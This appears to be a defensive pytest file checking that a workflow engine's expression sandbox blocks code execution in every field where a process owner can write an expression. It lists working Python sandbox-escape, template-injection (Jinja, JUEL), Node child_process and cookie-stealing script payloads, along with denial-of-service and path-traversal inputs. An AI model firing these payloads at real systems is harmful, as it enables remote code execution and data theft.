"""Hostile expressions in every place where a process owner can write one.

Families and places are those of the research of 2026-11 (spiffworkflow §7.3, reliability §2). For each pair either the
upload is refused, or the instance runs and nothing of the text is ever Python, nothing leaves the sandbox, and it ends
within its limits. The stock engine runs Python in nine of nine places (test_lint_stock).
"""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from service.domain.errors import AppError
from service.engine import feel, form, sandbox, xml
from service.engine.definition import Bundle, Resource, compile_bundle
from service.engine.findings import DiagramRefused
from tests.engine.diagrams import Process, bpmn, each
from tests.engine.play import BEGIN, Moment, Play
from tests.engine.test_lint_stock import MARK, PYTHON, script
from tests.engine.uploads import CATALOG, DMN, codes, upload, user

SYSTEM = f"touch {{canary}} #{MARK}"
WALK = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__"
ATTACKS: dict[str, str] = {
    "import": PYTHON,
    "system": "__import__('os').system('touch {canary}')",
    "class walk": WALK + "['system']('touch {canary}')",
    "format walk": "'{{0.__class__.__init__.__globals__}}'.format(open('{canary}', 'w'))",
    "frames": "(x for x in ()).gi_frame.f_back.f_globals['os'].system('touch {canary}')",
    "lambda": "(lambda: 0).__globals__['__builtins__']['open']('{canary}', 'w')",
    "open": "open('{canary}', 'w').write('x')",
    "exec": "exec(\"import pathlib; pathlib.Path('{canary}').touch()\")",
    "jinja": "{{{{ cycler.__init__.__globals__.os.popen('touch {canary}').read() }}}}",
    "juel": "${{''.getClass().forName('java.lang.Runtime').getRuntime().exec('touch {canary}')}}",
    "function": '"".constructor.constructor("return process")().exit(1)',
    "require": 'require("child_process").execSync("touch {canary}")',
    "std": 'std.open("{canary}", "w")',
    "java": 'function(x) external {{java: {{class: "java.lang.Runtime", method signature: "getRuntime()"}}}}',
    "prototype": 'context put({{}}, ["__proto__", "polluted"], true)',
    "document": "<script>fetch('http://127.0.0.1:9/' + document.cookie)</script>",
}
RUNAWAYS = {
    "power": "9**9**9**9**9",
    "long loop": "for i in 1..1000000000 return i",
    "nested loops": "sum(for a in 1..9999, b in 1..9999, c in 1..9999 return a * b * c)",
    "text": 'string join(for i in 1..100000000 return "xxxxxxxxxxxxxxxx")',
    "expression for ever": "{f: function(x) f(x + 1), r: f(1)}.r",
    "regular expression": 'matches("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "^(a+)+$")',
    "nested lists": "[" * 900 + "1" + "]" * 900,
    "signs": "-" * 3000 + "1",
}  # fmt: skip


# the places, each a bundle around an expression


def one(p: Process) -> list[Resource]:
    return upload(bpmn(p))


def condition(text: str) -> list[Resource]:
    p = Process("p").start().exclusive("x").end().end("other").path("begin", "x")
    return one(p.flow("x", "done", f"={text}").flow("x", "other", default=True))


def timer(kind: str) -> Callable[[str], list[Resource]]:
    def place(text: str) -> list[Resource]:
        return one(Process("p").start().catch("t", timer=(kind, f"={text}")).end().path("begin", "t", "done"))

    return place


def cycle(text: str) -> list[Resource]:
    p = user(Process("p").start(), "a").boundary("b", "a", interrupting=False, timer=("timeCycle", f"={text}"))
    return one(p.end().end("over").path("begin", "a", "done").path("b", "over"))


def attribute(name: str) -> Callable[[str], list[Resource]]:
    def place(text: str) -> list[Resource]:
        p = Process("p").start().user("a", "secretariat", "apply", **{name: f"={text}"}).end()
        return one(p.path("begin", "a", "done"))

    return place


def mapping(side: str) -> Callable[[str], list[Resource]]:
    def place(text: str) -> list[Resource]:
        p = Process("p").start().user("a", "secretariat", "apply", **{side: {"x": f"={text}"}}).end()
        return one(p.path("begin", "a", "done"))

    return place


def effect_input(text: str) -> list[Resource]:
    inputs = {"role": "unit", "title": f"={text}", "text": "t"}
    return one(Process("p").start().service("s", inputs=inputs).end().path("begin", "s", "done"))


def correlation(text: str) -> list[Resource]:
    return one(Process("p").start().catch("c", message="m", key=f"={text}").end().path("begin", "c", "done"))


def thrown_correlation(text: str) -> list[Resource]:
    p = Process("p").start().throw("t", message="m", properties={"correlationKey": f"={text}"}).end()
    return one(p.path("begin", "t", "done"))


def collection(text: str) -> list[Resource]:
    return looped(each(f"={text}", "x"))


def element(text: str) -> list[Resource]:
    return looped(each("=[1]", "x", output_collection="ys", output_element=f"={text}"))


def completion(text: str) -> list[Resource]:
    return looped(each("=[1, 2]", "x", until=f"={text}"))


def looped(loop: str) -> list[Resource]:
    return one(Process("p").start().user("a", "secretariat", "apply", loop=loop).end().path("begin", "a", "done"))


def decided(old: str) -> Callable[[str], list[Resource]]:
    def place(text: str) -> list[Resource]:
        p = Process("p").start().rule("r", "path", "route").end().path("begin", "r", "done")
        table = DMN.decode().replace(f"<text>{old}</text>", f"<text>{escape(text)}</text>", 1)
        return upload(bpmn(p), extras=[Resource("path.dmn", table.encode())])

    return place


def field(**parts: object) -> Callable[[str], list[Resource]]:
    """A form whose field has the expression where `parts` say `…`."""

    def place(text: str) -> list[Resource]:
        written = json.loads(json.dumps(parts, ensure_ascii=False).replace('"…"', json.dumps(f"={text}")))
        component = {"type": "textfield", "id": "f", "key": "title", "label": "标题", **written}
        schema = {"id": "asked", "type": "default", "schemaVersion": 19, "components": [component]}
        p = Process("p").start().user("a", "secretariat", "asked").end().path("begin", "a", "done")
        return upload(bpmn(p), extras=[Resource("asked.form", json.dumps(schema).encode())])

    return place


PLACES: dict[str, Callable[[str], list[Resource]]] = {
    "condition": condition,
    "duration": timer("timeDuration"),
    "date": timer("timeDate"),
    "cycle": cycle,
    "due date": attribute("due"),
    "follow-up date": attribute("follow_up"),
    "assignee": attribute("assignee"),
    "priority": attribute("priority"),
    "input": mapping("inputs"),
    "output": mapping("outputs"),
    "effect input": effect_input,
    "correlation key": correlation,
    "thrown correlation key": thrown_correlation,
    "collection": collection,
    "output element": element,
    "completion condition": completion,
    "decision input": decided("kind"),
    "decision test": decided('"park"'),
    "decision output": decided('"approval"'),
    "form: hide": field(conditional={"hide": "…"}),
    "form: readonly": field(readonly="…"),
    "form: computed": field(type="expression", expression="…", computeOn="change"),
    "form: length": field(validate={"minLength": "…"}),
    "form: options": field(type="select", valuesExpression="…"),
    "form: label": field(label="…"),
    "form: pattern": field(validate={"pattern": "…"}),
}


def run(bundle: Bundle) -> None:
    """Let the instance meet its expression: start it, check the form, complete the tasks."""
    played = Play(bundle, kind="park", title="标题")
    for task in list(played.last.open_tasks):
        form.check(bundle.forms[task.form_id or ""], played.variables, {"title": "标题"}, Moment(BEGIN))
        if played.last.status == "active":
            played.do("a", title="标题")


def attempt(resources: list[Resource]) -> str:
    """What becomes of an upload: the first finding, the fault of the instance, or `ran`."""
    try:
        run(compile_bundle(resources, CATALOG))
    except DiagramRefused as refused:
        return refused.first.code
    except AppError as fault:
        return fault.code
    return "ran"


@pytest.fixture(autouse=True)
def canary(tmp_path: Path) -> Iterator[Path]:
    """Fails the test if Python ran: neither the file nor the variable may ever be there."""
    os.environ.pop(MARK, None)
    path = tmp_path / "canary"
    yield path
    assert not path.exists()
    assert MARK not in os.environ


@pytest.mark.parametrize("place", PLACES)
def test_nothing_is_run_as_python_or_escapes_the_sandbox(place: str, canary: Path) -> None:
    for name, attack in ATTACKS.items():
        text = attack if attack is PYTHON else attack.format(canary=canary)
        began = time.monotonic()
        outcome = attempt(PLACES[place](text))
        assert time.monotonic() - began < 5, name
        assert not canary.exists(), name
        assert MARK not in os.environ, name
        assert outcome, name
    assert feel.evaluate("1 + 1", {}, Moment(BEGIN)) == 2
    assert feel.evaluate("{}.polluted", {}, Moment(BEGIN)) is None


@pytest.fixture
def impatient(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The limits are the same, only shorter: 0.3 seconds and 32 MB."""
    monkeypatch.setattr(sandbox, "TIME_LIMIT", 0.3)
    monkeypatch.setattr(sandbox, "MEMORY_LIMIT", 32 << 20)
    sandbox._context.drop()
    yield
    sandbox._context.drop()


@pytest.mark.usefixtures("impatient")
@pytest.mark.parametrize("place", ["condition", "effect input", "decision test", "form: computed", "collection"])
@pytest.mark.parametrize("name", RUNAWAYS)
def test_a_runaway_expression_ends_and_the_next_one_works(place: str, name: str) -> None:
    began = time.monotonic()
    attempt(PLACES[place](RUNAWAYS[name]))
    assert time.monotonic() - began < 5
    assert feel.evaluate("1 + 1", {}, Moment(BEGIN)) == 2


@pytest.mark.parametrize("place", PLACES)
def test_a_text_of_megabytes_is_refused_unread(place: str) -> None:
    resources = PLACES[place]("1 + " * (xml.MAX_BYTES // 4) + "1")
    assert attempt(resources) == "file_too_large"


@pytest.mark.parametrize("place", [place for place in PLACES if "form" not in place and "decision" not in place])
def test_a_long_expression_is_refused_unread(place: str) -> None:
    began = time.monotonic()
    assert attempt(PLACES[place]("(" * 20_000 + "1" + ")" * 20_000)) == "expression_too_long"
    assert time.monotonic() - began < 2


def test_scripts_are_refused_and_not_kept_for_later() -> None:
    assert codes(bpmn(script(Process("p")))) == ["script_task"]


# names that are paths, code or another's: data, never anything else


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "<script>alert(1)</script>", "\u202e流程", "{0.__class__}", "%s%n", "{first}"]
)
def test_a_hostile_name_is_only_a_name(name: str) -> None:
    p = Process("p", name).start().user("a", "secretariat", "apply", name=name).end().path("begin", "a", "done")
    bundle = compile_bundle(upload(bpmn(p)), CATALOG)
    assert bundle.processes["p"].name == name
    assert bundle.processes["p"].diagram.nodes["a"].name == name


@pytest.mark.parametrize("name", ["../../etc/passwd", "{0.__class__}", "{first}", "x" * 10_000])
def test_a_hostile_name_in_a_sentence_stays_as_it_is(name: str) -> None:
    p = Process("p").start().user("a", name, name).end().path("begin", "a", "done")
    with pytest.raises(DiagramRefused) as refused:
        compile_bundle(upload(bpmn(p)), CATALOG)
    shown = name if len(name) <= 200 else name[:200]
    for language in ("zh", "en"):
        assert shown in refused.value.text(language)
        assert len(refused.value.text(language)) < 1000
